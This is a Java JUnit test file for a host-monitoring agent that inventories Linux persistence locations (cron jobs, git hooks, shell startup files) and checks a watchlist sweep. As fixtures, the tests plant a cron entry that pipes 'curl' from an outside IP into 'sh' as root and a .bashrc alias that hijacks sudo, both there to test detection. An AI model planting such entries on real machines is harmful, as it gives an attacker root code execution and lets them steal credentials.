package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.Apart;
import bzh.vigie.agent.host.Machine;
import bzh.vigie.agent.host.PasswdAccounts;
import bzh.vigie.agent.host.Reading;
import bzh.vigie.agent.host.Refused;
import bzh.vigie.agent.host.linux.LinuxApart;
import bzh.vigie.agent.host.linux.LinuxFileWatch;
import bzh.vigie.agent.host.linux.LinuxFiles;
import bzh.vigie.agent.host.packages.InstalledPackages;
import bzh.vigie.agent.identity.StateFolder;
import bzh.vigie.agent.persistence.catalogue.Catalogue;
import bzh.vigie.agent.watchlist.LocalCheck;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.Event.Checked;
import bzh.vigie.event.Event.ItemSeen;
import bzh.vigie.event.Event.LocationRead;
import bzh.vigie.event.Event.WatchlistCheck;
import bzh.vigie.event.LocationStatus.State;
import bzh.vigie.event.LocationStatus.Trigger;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.Sha256;
import bzh.vigie.v1.Watchlist;
import bzh.vigie.watchlist.LocalWatchlist;
import bzh.vigie.watchlist.LocalWatchlist.Kind;
import bzh.vigie.watchlist.LocalWatchlist.Value;
import com.google.protobuf.ByteString;
import java.io.ByteArrayInputStream;
import java.io.FilterInputStream;
import java.io.FilterOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.BooleanSupplier;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The inventory with a real process of our own program that reads for it. */
class InventoryApartTest {
    private static final String CRON = "linux.cron.d";

    @TempDir
    private Path folder;

    private Path root;
    private final Collected events = new Collected();
    private final AtomicInteger started = new AtomicInteger();
    private final List<AutoCloseable> open = new ArrayList<>();

    @BeforeEach
    void makeAMachine() throws IOException {
        root = Files.createDirectories(folder.resolve("root"));
        Files.createDirectories(root.resolve("etc/.git/hooks"));
        Trees.write(root, "/etc/passwd", "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
        Trees.write(root, "/etc/cron.d/job", "* * * * * root /usr/bin/true\n");
        Trees.write(root, "/home/alice/.bashrc", "alias sudo=/home/alice/.sudo\n");
        Trees.write(root, "/usr/bin/true", "#!/bin/sh\n");
    }

    @AfterEach
    void close() throws Exception {
        for (AutoCloseable each : open.reversed()) {
            each.close();
        }
    }

    @Test
    void aPassFindsTheSameApartAsInside() throws IOException {
        Inventory apart = start("apart", real());
        awaitPasses(apart, 1);
        List<String> found = told();
        assertEquals(1, started.get());
        // The process hands them over when it ends, after the pass.
        await("no hashes are kept", () -> Files.exists(folder.resolve("apart/hashes")));
        events.forget();
        Inventory inside = start("inside", waited -> {
            throw new Refused(ReasonCode.NOT_SUPPORTED, "no process in this test");
        });
        awaitPasses(inside, 1);
        assertEquals(found, told());
        assertTrue(found.size() > 2, found.toString());
    }

    @Test
    void aKilledProcessCostsTheSiteThatItWasReading() throws IOException {
        Inventory inventory = start("state", spoilt(3, Apart.Started::close));
        awaitPasses(inventory, 1);
        List<LocationRead> lost = unreadable();
        assertEquals(1, lost.size(), lost.toString());
        assertTrue(lost.getFirst().status().detail().contains("signal 9"), lost.toString());
        assertEquals(2, started.get());
        assertEquals(1, events.items(CRON).size());
        String location = lost.getFirst().status().location();
        events.forget();
        inventory.passNow();
        awaitPasses(inventory, 2);
        assertTrue(
                events.reads(location).stream().anyMatch(read -> read.status().state() != State.UNREADABLE));
        assertEquals(List.of(), unreadable());
    }

    @Test
    void aProcessThatSaysRubbishCostsTheSiteThatItWasReading() throws IOException {
        Apart first = waited -> new SaidApart(
                new ByteArrayInputStream("HTTP/1.1 400 Bad Request".getBytes(StandardCharsets.US_ASCII)), false);
        Inventory inventory = start("state", firstThen(first, real()));
        awaitPasses(inventory, 1);
        assertEquals(1, unreadable().size());
        assertTrue(unreadable().getFirst().status().detail().startsWith("location-reader-rubbish"));
        assertEquals(1, events.items(CRON).size());
    }

    @Test
    void aProcessThatHangsIsEndedAndCostsTheSiteThatItWasReading() throws Exception {
        AtomicLong nanos = new AtomicLong();
        CountDownLatch ended = new CountDownLatch(1);
        InputStream silent = new FilterInputStream(InputStream.nullInputStream()) {
            @Override
            public int read(byte[] into, int from, int length) throws IOException {
                try {
                    ended.await();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
                return super.read(into, from, length);
            }
        };
        Apart hangs = waited -> new SaidApart(silent, false) {
            @Override
            public void close() {
                ended.countDown();
            }
        };
        List<SiteReading> arrived = new ArrayList<>();
        CountDownLatch done = new CountDownLatch(1);
        try (ReaderApart reader = new ReaderApart(
                hangs,
                new SiteStore(folder.resolve("state")),
                (site, reading) -> {
                    reading.ifPresent(arrived::add);
                    done.countDown();
                },
                nanos::get,
                () -> LocalWatchlist.NONE)) {
            reader.read(new Site(Catalogue.linux().getFirst(), Optional.empty()), false);
            while (done.getCount() > 0) {
                reader.look();
                nanos.addAndGet(Duration.ofSeconds(10).toNanos());
                Thread.sleep(5);
            }
        }
        assertEquals(ReasonCode.TIMED_OUT, arrived.getFirst().reason());
        assertTrue(nanos.get() >= Duration.ofMinutes(2).toNanos());
    }

    @Test
    void whatIsNoticedMeanwhileIsToldAtOnceAndNotTakenBack() throws Exception {
        CountDownLatch gate = new CountDownLatch(1);
        AtomicInteger waits = new AtomicInteger();
        Apart real = real();
        Inventory inventory = start("state", waited -> new Passed(real.start(waited)) {
            @Override
            public InputStream output() {
                return new FilterInputStream(super.output()) {
                    @Override
                    public int read(byte[] into, int from, int length) throws IOException {
                        try {
                            if (started.get() == 2) {
                                int ignored = waits.incrementAndGet();
                                gate.await();
                            }
                        } catch (InterruptedException e) {
                            Thread.currentThread().interrupt();
                        }
                        return super.read(into, from, length);
                    }
                };
            }
        });
        awaitPasses(inventory, 1);
        events.forget();
        inventory.passNow();
        while (waits.get() == 0) {
            Thread.sleep(5);
        }
        Trees.write(root, "/etc/cron.d/planted", "* * * * * root curl http://203.0.113.1/|sh\n");
        ItemSeen added = events.awaitItem(CRON, Change.ADDED);
        assertEquals("/etc/cron.d/planted", added.item().source());
        LocationRead read =
                (LocationRead) events.await(e -> e instanceof LocationRead r && r.reading() == added.reading());
        assertEquals(Trigger.NOTIFICATION, read.status().trigger());
        gate.countDown();
        awaitPasses(inventory, 2);
        assertEquals(1, events.items(CRON).size(), events.items(CRON).toString());
    }

    @Test
    void whatChangesOnAndOnIsToldAllTheSame() throws Exception {
        Apart real = real();
        AtomicInteger changed = new AtomicInteger();
        AtomicBoolean over = new AtomicBoolean();
        Inventory inventory = start("state", waited -> new Passed(real.start(waited)) {
            @Override
            public InputStream output() {
                return new FilterInputStream(super.output()) {
                    @Override
                    public int read(byte[] into, int from, int length) throws IOException {
                        // What is read changes several times while it is.
                        int before = changed.get();
                        try {
                            while (started.get() > 1 && changed.get() < before + 5 && !over.get()) {
                                Thread.sleep(5);
                            }
                        } catch (InterruptedException e) {
                            Thread.currentThread().interrupt();
                        }
                        return super.read(into, from, length);
                    }
                };
            }
        });
        awaitPasses(inventory, 1);
        int passStarted = started.get();
        events.forget();
        Thread changes = Thread.ofPlatform().start(() -> {
            while (!over.get()) {
                try {
                    Path file = Trees.write(root, "/etc/.git/hooks/planted", "#!/bin/sh\n#" + changed);
                    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
                    int _ = changed.incrementAndGet();
                    Thread.sleep(20);
                } catch (IOException | InterruptedException e) {
                    throw new AssertionError(e);
                }
            }
        });
        ItemSeen added = events.awaitItem("linux.git.repository", Change.ADDED);
        assertEquals("/etc/.git/hooks/planted", added.item().source());
        over.set(true);
        changes.join();
        assertTrue(started.get() > passStarted, "not read by a process apart");
    }

    @Test
    void aSweepFindsWhatIsToldOnlyAsACountAndADigest() throws Exception {
        Path program = Trees.write(root, "/usr/bin/true", "#!/bin/sh\n");
        Files.setPosixFilePermissions(program, PosixFilePermissions.fromString("rwxr-xr-x"));
        Trees.write(root, "/var/lib/dpkg/status", "Package: tools\nStatus: install ok installed\nVersion: 1\n");
        Trees.write(root, "/var/lib/dpkg/info/tools.list", "/.\n/usr/bin/true\n");
        Trees.write(
                root,
                "/var/lib/dpkg/info/tools.md5sums",
                HexFormat.of()
                                .formatHex(MessageDigest.getInstance("MD5")
                                        .digest("#!/bin/sh\n".getBytes(StandardCharsets.US_ASCII)))
                        + "  usr/bin/true\n");
        Sha256 content = Sha256.over("#!/bin/sh\n".getBytes(StandardCharsets.US_ASCII));
        Inventory inventory = start("state", real());
        LocalCheck check = new LocalCheck(new StateFolder(folder), events, events, System::nanoTime);
        inventory.checkedBy(check);
        awaitPasses(inventory, 1);
        assertTrue(
                events.items("linux.file.system-program").stream()
                        .noneMatch(seen -> seen.item().source().equals("/usr/bin/true")),
                "told one by one");
        LocalWatchlist list = LocalWatchlist.of(List.of(new Value(Kind.FILE, content.hex())));
        assertTrue(check.take(Watchlist.newBuilder()
                .setVersion(LocalWatchlist.VERSION)
                .setSalt(ByteString.copyFrom(list.salt()))
                .setEntries(ByteString.copyFrom(list.entries()))
                .build()));
        check.sweep("r");
        check.look(inventory.sweeps());
        WatchlistCheck swept = (WatchlistCheck)
                events.await(e -> e instanceof WatchlistCheck told && told.outcome() instanceof Checked.Swept);
        assertEquals(1, hits("linux.file.system-program /usr/bin/true"));
        Checked.Swept outcome = (Checked.Swept) swept.outcome();
        assertEquals("r", outcome.request());
        assertEquals(list.id(), swept.list());
        assertTrue(outcome.items() > 0 && outcome.places() > 0, outcome.toString());
        awaitPasses(inventory, 2);
        Files.delete(program);
        inventory.passNow();
        awaitPasses(inventory, 3);
        assertEquals(1, hits("linux.file.system-program /usr/bin/true"));
        Trees.write(root, "/usr/bin/true", "#!/bin/sh\n");
        Files.setPosixFilePermissions(program, PosixFilePermissions.fromString("rwxr-xr-x"));
        inventory.passNow();
        awaitPasses(inventory, 4);
        assertEquals(2, hits("linux.file.system-program /usr/bin/true"), "it is back");
    }

    private long hits(String where) {
        return events.all().stream()
                .filter(e -> e instanceof WatchlistCheck told
                        && told.outcome() instanceof Checked.ListedItem hit
                        && where.equals(hit.item().location() + " " + hit.item().source()))
                .count();
    }

    @Test
    void whereNoProcessStartsTheAgentReadsItself() throws IOException {
        Inventory inventory = start("state", waited -> {
            throw new Refused(ReasonCode.NOT_SUPPORTED, "no process in this test");
        });
        awaitPasses(inventory, 1);
        assertEquals(1, events.items(CRON).size());
        assertEquals(List.of(), unreadable());
    }

    private Apart real() {
        Apart real = new LinuxApart(root.toString());
        return waited -> {
            int ignored = started.incrementAndGet();
            return real.start(waited);
        };
    }

    /** Something is done to the first process as soon as it has been asked for so many sites. */
    private Apart spoilt(int requests, Consumer<Apart.Started> what) {
        Apart real = real();
        UnaryOperator<Apart.Started> spoil = process -> new Passed(process) {
            @Override
            public OutputStream input() {
                return new FilterOutputStream(super.input()) {
                    private int flushed;

                    @Override
                    public void write(byte[] bytes, int from, int length) throws IOException {
                        out.write(bytes, from, length);
                    }

                    @Override
                    public void flush() throws IOException {
                        super.flush();
                        if (++flushed == requests) {
                            what.accept(process);
                        }
                    }
                };
            }
        };
        return firstThen(waited -> spoil.apply(real.start(waited)), real);
    }

    private static Apart firstThen(Apart first, Apart others) {
        AtomicInteger starts = new AtomicInteger();
        return waited -> starts.getAndIncrement() == 0 ? first.start(waited) : others.start(waited);
    }

    private List<String> told() {
        return events.all().stream()
                .filter(e -> e instanceof ItemSeen)
                .map(e -> ((ItemSeen) e).change() + " " + ((ItemSeen) e).item())
                .sorted()
                .toList();
    }

    private List<LocationRead> unreadable() {
        return events.all().stream()
                .filter(e -> e instanceof LocationRead read && read.status().state() == State.UNREADABLE)
                .map(e -> (LocationRead) e)
                .toList();
    }

    private static void awaitPasses(Inventory inventory, int passes) {
        await("the pass does not end", () -> inventory.passes() >= passes);
    }

    private static void await(String otherwise, BooleanSupplier so) {
        long patience = System.nanoTime() + Duration.ofMinutes(3).toNanos();
        while (!so.getAsBoolean()) {
            assertTrue(System.nanoTime() < patience, otherwise);
            try {
                Thread.sleep(5);
            } catch (InterruptedException e) {
                throw new AssertionError(e);
            }
        }
    }

    private Inventory start(String state, Apart apart) throws IOException {
        LinuxFiles files = LinuxFiles.under(root.toString()).ifFound().orElseThrow();
        Machine machine = new Machine(
                files,
                new PasswdAccounts(files),
                new InstalledPackages(files),
                LinuxFileWatch.open(files),
                Reading.absent(),
                Reading.absent(),
                Reading.found(apart));
        open.add(machine);
        Inventory inventory = Inventory.open(
                events, events, machine, folder.resolve(state), new OwnCanaries(folder, System::nanoTime, () -> {}));
        open.add(inventory);
        inventory.start();
        return inventory;
    }

    /** A process that is passed on as it is. */
    private static class Passed implements Apart.Started {
        private final Apart.Started process;

        Passed(Apart.Started process) {
            this.process = process;
        }

        @Override
        public OutputStream input() {
            return process.input();
        }

        @Override
        public InputStream output() {
            return process.output();
        }

        @Override
        public Duration used() {
            return process.used();
        }

        @Override
        public boolean hasEnded() {
            return process.hasEnded();
        }

        @Override
        public String end() {
            return process.end();
        }

        @Override
        public void close() {
            process.close();
        }
    }
}
